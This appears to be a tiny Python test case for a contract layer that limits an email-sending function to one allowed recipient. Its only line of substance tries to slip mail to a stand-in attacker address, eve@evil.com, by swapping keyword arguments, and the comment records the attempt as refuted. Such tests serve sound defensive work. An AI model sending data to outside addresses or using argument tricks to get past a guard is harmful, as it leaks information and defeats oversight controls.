# refuted: keywords bind by name, not by place
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.only(["bob@example.com"]))
def main() -> None:
    send_email(msg="bob@example.com", addr="eve@evil.com")
